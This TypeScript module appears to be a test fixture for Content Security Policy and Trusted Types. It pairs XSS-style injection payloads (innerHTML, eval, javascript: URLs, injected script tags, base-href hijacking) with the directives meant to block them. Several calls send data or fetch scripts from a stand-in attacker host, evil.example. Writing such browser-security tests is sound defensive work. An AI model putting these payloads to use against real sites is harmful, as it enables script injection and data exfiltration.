/** Where whatever gets out of the page would arrive. */
export const FOREIGN = 'https://evil.example';
const planted = 'window.planted = true';

/** What a script on the page tries that was smuggled in, as the body of a function, and the directives that may refuse it. */
export const SINKS: Readonly<Record<string, readonly [code: string, ...directives: readonly string[]]>> = {
  'HTML into an element': [
    `document.body.append(document.createElement('p')); document.body.lastChild.innerHTML = '<img src=x onerror="${planted}">';`,
    'require-trusted-types-for',
  ],
  'HTML over an element': [
    `const p = document.createElement('p'); document.body.append(p); p.outerHTML = '<img src=x onerror="${planted}">';`,
    'require-trusted-types-for',
  ],
  'HTML beside an element': [
    `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="${planted}">');`,
    'require-trusted-types-for',
  ],
  'HTML into the document': [`document.write('<script>${planted}</script>');`, 'require-trusted-types-for'],
  'HTML into a range': [
    `document.body.append(document.createRange().createContextualFragment('<script>${planted}</script>'));`,
    'require-trusted-types-for',
  ],
  'HTML into a parser': [
    "new DOMParser().parseFromString('<p>x</p>', 'text/html');",
    'require-trusted-types-for',
  ],
  'HTML into a frame': [
    `const frame = document.createElement('iframe'); frame.srcdoc = '<script>parent.${planted}</script>'; document.body.append(frame);`,
    'require-trusted-types-for',
  ],
  'an address into a script': [
    `const script = document.createElement('script'); script.src = '${FOREIGN}/script.js'; document.body.append(script);`,
    'require-trusted-types-for',
  ],
  'a data address into a script': [
    `const script = document.createElement('script'); script.src = "data:text/javascript,${planted}"; document.body.append(script);`,
    'require-trusted-types-for',
  ],
  'words into a script': [
    `const script = document.createElement('script'); script.text = "${planted}"; document.body.append(script);`,
    'require-trusted-types-for',
  ],
  'a node of words into a script': [
    `const script = document.createElement('script'); script.append("${planted}"); document.body.append(script);`,
    'require-trusted-types-for',
    'script-src-elem',
  ],
  'a handler into an attribute': [
    `const b = document.createElement('button'); b.setAttribute('onclick', "${planted}"); document.body.append(b); b.click();`,
    'require-trusted-types-for',
    'script-src-attr',
  ],
  'words to be evaluated': [`(0, eval)("${planted}");`, 'require-trusted-types-for', 'script-src'],
  'a function of words': [`new Function("${planted}")();`, 'require-trusted-types-for', 'script-src'],
  'words for later': [`setTimeout("${planted}");`, 'require-trusted-types-for', 'script-src'],
  'a script as an address': [
    `const a = document.createElement('a'); a.href = "javascript:void(${planted})"; document.body.append(a); a.click();`,
    'require-trusted-types-for',
    'script-src-elem',
  ],
  'a worker': [
    `new Worker(URL.createObjectURL(new Blob(["fetch('${FOREIGN}/worker')"])));`,
    'require-trusted-types-for',
    'worker-src',
    'script-src',
  ],
  'a policy of its own': [
    "trustedTypes.createPolicy('evil', { createHTML: (text) => text });",
    'trusted-types',
  ],
  'a call': [`fetch('${FOREIGN}/call').catch(() => {});`, 'connect-src'],
  'a beacon': [`navigator.sendBeacon('${FOREIGN}/beacon', 'x');`, 'connect-src'],
  'a socket': [`new WebSocket('${FOREIGN.replace('https', 'wss')}/socket');`, 'connect-src'],
  'a stream of events': [`new EventSource('${FOREIGN}/events');`, 'connect-src'],
  'a picture': [`new Image().src = '${FOREIGN}/picture.png';`, 'img-src'],
  'a frame': [
    `const f = document.createElement('iframe'); f.src = '${FOREIGN}/frame'; document.body.append(f);`,
    'frame-src',
  ],
  'a form': [
    `const form = document.createElement('form'); form.action = '${FOREIGN}/form'; form.target = '_blank'; document.body.append(form); form.submit();`,
    'form-action',
  ],
};

/** What a document holds that somebody wrote into on its way, and the directives that refuse it. */
export const WRITTEN_IN: Readonly<Record<string, readonly [html: string, directive: string]>> = {
  'an inline script': [`<script>${planted}</script>`, 'script-src-elem'],
  'an inline module': [`<script type="module">${planted}</script>`, 'script-src-elem'],
  'a script from elsewhere': [`<script src="${FOREIGN}/script.js"></script>`, 'script-src-elem'],
  'a script in its own address': [
    `<script src="data:text/javascript,${planted}"></script>`,
    'script-src-elem',
  ],
  'a handler': [`<img alt="" src="/nothing.png" onerror="${planted}">`, 'script-src-attr'],
  'a picture from elsewhere': [`<img alt="" src="${FOREIGN}/picture.png">`, 'img-src'],
  'an inline style': ['<style>body { background: red !important }</style>', 'style-src-elem'],
  'a style attribute': ['<p style="position: fixed; inset: 0">over everything</p>', 'style-src-attr'],
  'a style sheet from elsewhere': [`<link rel="stylesheet" href="${FOREIGN}/style.css">`, 'style-src-elem'],
  'a frame from elsewhere': [`<iframe title="x" src="${FOREIGN}/frame"></iframe>`, 'frame-src'],
  'an object': [`<object data="${FOREIGN}/object"></object>`, 'object-src'],
  'another base': [`<base href="${FOREIGN}/">`, 'base-uri'],
};
